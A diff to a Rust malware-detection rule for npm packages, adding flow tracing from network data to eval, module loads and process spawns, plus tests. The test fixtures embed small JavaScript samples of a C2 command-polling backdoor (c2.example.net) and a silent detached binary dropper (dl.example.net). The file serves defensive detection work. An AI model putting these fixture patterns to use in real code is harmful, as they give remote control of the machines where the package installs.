@@ -1,7 +1,8 @@
 //! `code/download-exec`.
 
-use super::{chain, finding, locality, per_signal};
+use super::{chain, describe, finding, flow_finding, flows, locality, one_per_sink, per_signal};
 use crate::CodeFinding;
+use crate::flow::{SinkKind, SourceKind, flags};
 use crate::signal::{Kind, PackageFacts};
 use crate::verdict::Locality;
 use diligence_finding::Severity;
@@ -10,8 +11,12 @@ diligence_finding::declare_rule! {
     /// Code runs what it receives from the network, or fetches a second runtime and runs a file with it.
     ///
     /// ## What it detects
-    /// Process spawns or `eval`/`Function` whose argument is data received inside a network callback (C2 command
-    /// loops), and install-time fetches of a second runtime (bun, deno) that is then spawned.
+    /// A value-flow path from data received over the network (HTTP responses, socket and WebSocket messages,
+    /// through callbacks, promise chains, `await`, helpers and modules) into `eval`/`Function`/`vm`, a module
+    /// load, or a process spawn whose command it is (critical; as a mere argument of a fixed program, medium); a
+    /// download written to a file that the package then runs or loads (high, critical when the process is
+    /// detached with its output ignored). Also process spawns or `eval` of data received inside a network
+    /// callback, and install-time fetches of a second runtime (bun, deno) that is then spawned.
     ///
     /// ## Why it matters
     /// Remote command execution turns an install into a backdoor (desktop-notify style agents); Shai-Hulud 2.0
@@ -29,9 +34,93 @@ diligence_finding::declare_rule! {
     pub static DOWNLOAD_EXEC = { id: "code/download-exec", severity: Severity::High };
 }
 
+const SHELLS: &[&str] = &[
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "cmd",
+    "powershell",
+    "pwsh",
+    "node",
+    "bun",
+    "deno",
+    "python",
+    "python3",
+    "perl",
+];
+
+/// Paths from network data to code, commands and module loads; downloads written then run.
+fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
+    let mut out = Vec::new();
+    let sinks = [SinkKind::Eval, SinkKind::Require, SinkKind::Exec];
+    for path in flows(p, &[SourceKind::NetworkData], &sinks).take(20) {
+        let constant_url = path.from.what.contains(" from ");
+        let sev = match path.sink {
+            SinkKind::Exec => match path.path_key.as_deref() {
+                Some(prog) if !SHELLS.contains(&prog) && !prog.starts_with('$') => Severity::Medium,
+                _ => Severity::Critical,
+            },
+            // A module loader evaluates the script whose URL it was given; a dev server's client
+            // imports the modules its server names.
+            _ if !constant_url => Severity::Low,
+            SinkKind::Require => Severity::Medium,
+            _ => Severity::Critical,
+        };
+        out.push(flow_finding(
+            &DOWNLOAD_EXEC,
+            sev,
+            p,
+            path,
+            format!("network data is executed: {}", describe(path)),
+        ));
+    }
+    let verified = p.has(Kind::ChecksumVerify);
+    for path in flows(p, &[SourceKind::NetworkData], &[SinkKind::FileWrite]).take(20) {
+        let Some(key) = path.path_key.as_deref() else {
+            continue;
+        };
+        let Some(run) = p.flows.runs.iter().find(|r| r.key == key) else {
+            continue;
+        };
+        let hidden = run.flags & (flags::DETACHED | flags::SILENT) != 0;
+        let sev = match (verified, hidden) {
+            (true, _) => Severity::Low,
+            (false, true) => Severity::Critical,
+            (false, false) => Severity::High,
+        };
+        let mut f = flow_finding(
+            &DOWNLOAD_EXEC,
+            sev,
+            p,
+            path,
+            format!(
+                "a download is written to `{key}` and run{}: {} → {} ({}:{})",
+                if hidden { " detached and silent" } else { "" },
+                describe(path),
+                run.at.what,
+                run.at.file,
+                run.at.line
+            ),
+        );
+        f.evidence.push(crate::Evidence {
+            kind: format!("sink:{}", run.kind.as_str()),
+            file: run.at.file.clone(),
+            line: run.at.line,
+            detail: run.at.what.clone(),
+        });
+        out.push(f);
+    }
+    one_per_sink(out)
+}
+
 /// Remote exec and runtime droppers.
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    let traced = paths(p);
     let mut out = per_signal(p, Kind::RemoteExec, |f, s| {
+        if traced.iter().any(|t| t.file == f.path && t.line == s.line) {
+            return None;
+        }
         // A verified download (checksum compared) that is then run is an installer.
         if f.has(Kind::ChecksumVerify) {
             return None;
@@ -100,7 +189,9 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             chain(p, f, s, &[Kind::Network, Kind::Spawn]),
         ))
     }));
-    out
+    let mut all = traced;
+    all.append(&mut out);
+    all
 }
 
 #[cfg(test)]
@@ -119,6 +210,66 @@ mod tests {
         assert_eq!(
             hits(&s, "code/download-exec"),
             vec![("agent.js".to_string(), 6)]
+        );
+    }
+
+    /// A remote-access module: commands polled with `await`, run by a helper in another module.
+    #[test]
+    fn positive_polled_command_run_by_a_helper() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const { run } = require('./run');\nasync function tick() {\n  const r = await fetch('https://c2.example.net/next');\n  const { cmd } = await r.json();\n  if (cmd) run(cmd);\n}\nsetInterval(tick, 60000);\n",
+            ),
+            (
+                "run.js",
+                "const cp = require('child_process');\nexports.run = (c) => cp.exec(c, { windowsHide: true });\n",
+            ),
+        ]);
+        let f = s
+            .findings
+            .iter()
+            .find(|f| f.rule == "code/download-exec")
+            .expect("a finding");
+        assert_eq!(
+            (f.file.as_str(), f.line, f.severity),
+            ("run.js", 2, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// An update helper runs `npm install` with a version it read from the registry.
+    #[test]
+    fn negative_version_from_the_registry_as_an_argument() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "update.js",
+                "const { execSync } = require('child_process');\nmodule.exports = async function update(name) {\n  const r = await fetch('https://registry.npmjs.org/' + name + '/latest');\n  const { version } = await r.json();\n  execSync('npm install -g ' + name + '@' + version, { stdio: 'inherit' });\n};\n",
+            ),
+        ]);
+        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
+    }
+
+    /// A bundled-binary dropper: downloaded to a temp file, started detached and silent.
+    #[test]
+    fn positive_download_written_then_started_detached() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "i.js",
+                "const https = require('https');\nconst fs = require('fs');\nconst { spawn } = require('child_process');\nconst out = require('path').join(require('os').tmpdir(), 'svc-helper');\nhttps.get('https://dl.example.net/b', (res) => {\n  const f = fs.createWriteStream(out);\n  res.pipe(f);\n  f.on('finish', () => { fs.chmodSync(out, 0o755); spawn(out, [], { detached: true, stdio: 'ignore' }).unref(); });\n});\n",
+            ),
+        ]);
+        let f = s
+            .findings
+            .iter()
+            .find(|f| f.rule == "code/download-exec")
+            .expect("a finding");
+        assert_eq!(
+            (f.line, f.severity),
+            (7, diligence_finding::Severity::Critical)
         );
     }
 
@@ -171,7 +322,14 @@ mod tests {
                 "function load(url, done, fail) {\n  fetch(url)\n    .then((r) => { if (r.status !== 200) throw new Error(r.statusText); return r.text(); })\n    .then((t) => { new Function(t + '\\n//# sourceURL=' + url).call(self); done(); })\n    .then(undefined, fail);\n}\nmodule.exports = load;\n",
             ),
         ]);
-        assert!(hits(&s, "code/download-exec").is_empty());
+        let sev: Vec<_> = s
+            .findings
+            .iter()
+            .filter(|f| f.rule == "code/download-exec")
+            .map(|f| f.severity)
+            .collect();
+        assert_eq!(sev, vec![diligence_finding::Severity::Low]);
+        assert_eq!(s.verdict, crate::Verdict::Clean);
     }
 
     #[test]
